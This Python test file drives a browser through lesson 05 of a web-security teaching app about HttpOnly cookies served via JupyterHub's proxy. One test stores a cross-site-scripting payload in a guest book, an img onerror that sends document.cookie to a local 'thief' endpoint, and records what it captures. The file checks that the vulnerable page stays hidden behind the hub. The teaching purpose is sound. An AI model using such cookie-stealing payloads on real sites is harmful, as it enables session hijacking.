"""The pages of lesson 05 where they come through jupyter-server-proxy, as on Binder and JupyterHub."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import requests
from nbval.plugin import get_sanitize_patterns
from playwright.sync_api import expect

from demo_app import CookieOptions, SessionOptions, create_app, serve
from demo_app.lesson import browse
from tests.browser.lab import copy_project, jupyterlab_with_proxy, open_lesson, output, run_all, set_preferences
from tests.browser.use import press

RULES = get_sanitize_patterns(
    Path(__file__).parents[2].joinpath("demo_app/teach/sanitize.cfg").read_text(encoding="ascii")
)


@pytest.fixture
def lesson(page, tmp_path):
    """Lesson 05, run, and the base address of its JupyterLab."""
    folder, environment = copy_project(tmp_path)
    set_preferences(environment["HOME"], {"notebook-extension/tracker": {"windowingMode": "none"}})
    page.set_viewport_size({"width": 1280, "height": 900})
    with jupyterlab_with_proxy(folder, environment, "/user/ada/") as (base, url):
        open_lesson(page, url, "05_httponly")
        run_all(page)
        yield page, base


def test_the_page_comes_below_a_prefix_and_the_guest_book_does_not(lesson, monkeypatch):
    page, base = lesson
    shown = output(page, "browse(visible)")
    expect(shown).to_contain_text("it comes through the hub")
    frame = shown.frame_locator("iframe")
    press(frame, "Visit", "Visit")
    expect(frame.locator("#result")).to_contain_text('{"visits":2}')

    # The cookie is for the whole host, and the page gets those of the Jupyter server, without their values.
    (cookie,) = (cookie for cookie in page.context.cookies() if cookie["name"] == "visible")
    assert cookie["path"] == "/"
    expect(frame.locator("#sent")).to_contain_text("_xsrf=…")

    # What needs a session there works through the hub, too.
    press(output(page, "browse(open_book)").last.frame_locator("iframe"), "Log in as ada", "Log out")

    book = output(page, "browse(open_book, open_path)")
    expect(book).to_contain_text("This page is not shown on a hub.")
    expect(book).to_contain_text("thief?loot=open_book")
    expect(book.locator("iframe, script, a")).to_have_count(0)

    # Nor is one for a neighbour who knows where it is, and leads the learner there.
    monkeypatch.setenv("JUPYTERHUB_SERVICE_PREFIX", "/user/ada/")
    app = create_app(SessionOptions(secret="s"), guest_book=True)
    with serve(app) as server:
        port, path = server.url.rpartition(":")[2], app.extensions["guest_book"]
        assert requests.get(f"{server.url}{path}").ok
        for way in (f"proxy/{port}", f"proxy/127.0.0.1:{port}", f"proxy/absolute/{port}"):
            answer = page.goto(f"{base}{way}{path}")
            assert answer.status in (403, 404)
            assert "<!doctype" not in answer.text()


def test_the_record_is_what_a_browser_does(browser, monkeypatch):
    """What a learner on a hub reads in place of the guest book."""
    seen = []
    for httponly in (False, True):
        browser.clear_cookies()
        page = browser.new_page()
        app = create_app(
            SessionOptions(name="open_book", secret="s", cookie=CookieOptions(httponly=httponly)), guest_book=True
        )
        with serve(app) as server:
            path = app.extensions["guest_book"]
            entry = """<img src=x onerror="fetch('thief?loot=' + encodeURIComponent(document.cookie))">"""
            requests.post(server.url + path, data={"entry": entry})
            page.goto(server.url)
            press(page, "Log in as ada")
            asked = []
            page.on("request", lambda request, asked=asked: asked.append(request))
            with page.expect_response("**/thief*"):
                page.goto(server.url + path)
            seen += [
                f"  GET {request.url.removeprefix(server.url)}"
                for request in asked
                if request.resource_type in ("document", "fetch")
            ]
            seen.append(f"  the thief has: {requests.get(f'{server.url}{path}thief/loot').json()}")
            monkeypatch.setenv("JUPYTERHUB_SERVICE_PREFIX", "/user/ada/")
            record = repr(browse(server, path))
            monkeypatch.delenv("JUPYTERHUB_SERVICE_PREFIX")
        page.close()
    # In an address, the % of a cookie's value is escaped once more.
    text = re.sub(r"%25([0-9A-F]{2})", r"%\1", "\n".join(seen))
    for regex, replace in RULES:
        text = re.sub(regex, replace, text)
    assert text.splitlines() == [line.replace("%25", "%") for line in record.splitlines() if line.startswith("  ")]
